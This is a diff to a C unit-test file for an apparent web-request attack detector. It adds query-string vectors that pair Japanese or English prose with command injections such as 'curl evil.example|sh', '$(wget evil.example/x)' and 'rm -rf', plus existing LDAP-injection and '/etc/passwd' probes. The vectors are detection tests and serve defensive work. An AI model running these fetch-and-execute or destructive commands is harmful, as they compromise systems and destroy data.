@@ -113,6 +113,15 @@ static const struct {
     {"u=https://1.example.com/10/20&v=https://8base.com/", 0},
     {"q=require('child_process')", RULE_COMMAND},
     {"user=admin*)((%7CuserPassword=*)", RULE_LDAP},
+    /* Sentences and markup around an attack switch nothing off. */
+    {"q=ああああああああああ;curl%20evil.example%7Csh", RULE_COMMAND},
+    {"q=please+give+it+to+the+old+man+;curl%20evil.example%7Csh", RULE_COMMAND},
+    {"q=please+give+it+to+the+old+man+%26%26+rm+-rf+/tmp/x", RULE_COMMAND},
+    {"q=%3Ca%3Eplease;curl%20evil%7Csh%3C/a%3E", RULE_COMMAND},
+    {"q=ああああああああああ$(wget%20evil.example/x)", RULE_COMMAND},
+    {"q=To+list+the+files+use+`ls+-la`+or+`cat+README.md`,+and+say+so", 0},
+    {"q=It+was+a+quiet+night;+cat+on+my+lap,+I+read+the+news+on+example.com", 0},
+    {"q=He+asked+'tea'+or+'coffee',+and+she+took+'tea';+drop+the+rest+of+it", 0},
 };
 
 static void test_values(void **state)
@@ -394,19 +403,39 @@ static void test_prose(void **state)
     assert_false(prose_like(SPAN("\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8")));
 }
 
+/* What is far from a match says nothing about it. */
+static void test_prose_around(void **state)
+{
+    (void)state;
+    char text[4096];
+    (void)memset(text, '0', sizeof(text));
+    static const char words[] = "please give it to the old man ";
+    (void)memcpy(text, words, sizeof(words) - 1);
+    const struct span all = {text, sizeof(text)};
+    assert_true(prose_like(all));
+    assert_true(prose_around(all, sizeof(words)));
+    assert_false(prose_around(all, sizeof(words) + PROSE_AROUND));
+    assert_true(prose_around((struct span){text, sizeof(words) - 1}, sizeof(words) - 1));
+    /* A window may begin in the middle of a character. */
+    for (size_t i = 0; i + 3 <= sizeof(text); i += 3)
+        (void)memcpy(text + i, "あ", 3);
+    for (size_t i = 0; i < 3; i++)
+        assert_true(prose_around(all, 1000 + i));
+}
+
 static void test_ordinary(void **state)
 {
     (void)state;
-    assert_true(ordinary_like(SPAN("https://shop.example/list?id=5&sort=price&order=desc#top")));
-    assert_true(ordinary_like(SPAN("http://shop.example")));
-    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&whoami")));
-    assert_false(ordinary_like(SPAN("http://shop.example/&id")));
-    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&b=$(id)")));
-    assert_false(ordinary_like(SPAN("http://shop.example/;id")));
-    assert_false(ordinary_like(SPAN("http:")));
-    assert_false(ordinary_like(SPAN("http://")));
-    assert_true(ordinary_like(SPAN("<p class=\"a\">text</p>")));
-    assert_false(ordinary_like(SPAN("<p>text")));
+    assert_true(ordinary_like(SPAN("https://shop.example/list?id=5&sort=price&order=desc#top"), 0));
+    assert_true(ordinary_like(SPAN("http://shop.example"), 0));
+    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&whoami"), 0));
+    assert_false(ordinary_like(SPAN("http://shop.example/&id"), 0));
+    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&b=$(id)"), 0));
+    assert_false(ordinary_like(SPAN("http://shop.example/;id"), 0));
+    assert_false(ordinary_like(SPAN("http:"), 0));
+    assert_false(ordinary_like(SPAN("http://"), 0));
+    assert_true(ordinary_like(SPAN("<p class=\"a\">text</p>"), 0));
+    assert_false(ordinary_like(SPAN("<p>text"), 0));
     assert_true(plain_words_like(SPAN("ping pong (indoors)")));
     assert_false(plain_words_like(SPAN("cat /etc/passwd")));
     assert_false(plain_words_like(SPAN("()")));
@@ -418,12 +447,19 @@ static void test_ordinary(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_values),         cmocka_unit_test(test_bodies),
-        cmocka_unit_test(test_graphql),        cmocka_unit_test(test_referer),
-        cmocka_unit_test(test_uploads),        cmocka_unit_test(test_redirects),
-        cmocka_unit_test(test_prose),          cmocka_unit_test(test_mislabelled_bodies),
-        cmocka_unit_test(test_encoded_bodies), cmocka_unit_test(test_no_graphql),
-        cmocka_unit_test(test_ordinary),       cmocka_unit_test(test_bodies_that_stay_closed),
+        cmocka_unit_test(test_values),
+        cmocka_unit_test(test_bodies),
+        cmocka_unit_test(test_graphql),
+        cmocka_unit_test(test_referer),
+        cmocka_unit_test(test_uploads),
+        cmocka_unit_test(test_redirects),
+        cmocka_unit_test(test_prose),
+        cmocka_unit_test(test_mislabelled_bodies),
+        cmocka_unit_test(test_encoded_bodies),
+        cmocka_unit_test(test_no_graphql),
+        cmocka_unit_test(test_prose_around),
+        cmocka_unit_test(test_ordinary),
+        cmocka_unit_test(test_bodies_that_stay_closed),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
 }
